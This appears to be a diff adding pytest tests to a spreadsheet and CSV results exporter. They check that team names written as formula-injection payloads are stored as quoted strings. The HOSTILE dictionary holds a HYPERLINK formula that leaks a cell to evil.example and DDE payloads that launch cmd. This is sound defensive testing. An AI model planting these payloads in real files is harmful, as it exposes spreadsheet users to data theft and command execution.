@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import time
 from pathlib import Path
 
 import pytest
@@ -174,3 +175,60 @@ def test_exports_hold_no_comment_and_no_name(tmp_path: Path) -> None:
     workbook = load_workbook(tmp_path / "r.xlsx")
     cells = [str(v) for ws in workbook for row in ws.iter_rows(values_only=True) for v in row]
     assert not any("comment that must never" in c for c in cells)
+
+
+HOSTILE = {
+    "=": '=HYPERLINK("https://evil.example/?"&A1,"Ward 7")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("start", sorted(HOSTILE))
+def test_names_people_chose_are_never_formulas(tmp_path: Path, start: str) -> None:
+    name = HOSTILE[start]
+    ward: list[Person] = [(None, flat(3))] * 6
+    results = make_results({name: (8, ward), "Ward 8": (9, ward)}, name=name)
+    export_csv(results, tmp_path / "r.csv")
+    rows = read_csv(tmp_path / "r.csv")
+    assert {r["team"] for r in rows} == {f"'{name}", ROUND_TOTAL, "Ward 8"}
+    assert {r["round"] for r in rows} == {f"'{name}"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not _number(c)], "numbers stay numbers"
+
+    export_xlsx(results, tmp_path / "r.xlsx")
+    workbook = load_workbook(tmp_path / "r.xlsx")
+    seen = 0
+    as_read = name.replace("\r", "\n")  # XML reads a carriage return as a line feed
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and as_read in cell.value:
+                    assert cell.value.startswith("'"), cell.value
+                    assert cell.data_type == "s", "a string cell, not a formula"
+                    seen += 1
+                assert cell.data_type != "f"
+    assert seen > 0, "the name is in the workbook"
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_the_same_results_give_the_same_bytes(tmp_path: Path) -> None:
+    results = sample()
+    export_xlsx(results, tmp_path / "a.xlsx")
+    export_csv(results, tmp_path / "a.csv")
+    time.sleep(2.1)  # zip entries are dated to the second: a second later, the same file
+    export_xlsx(results, tmp_path / "b.xlsx")
+    export_csv(results, tmp_path / "b.csv")
+    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
+    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
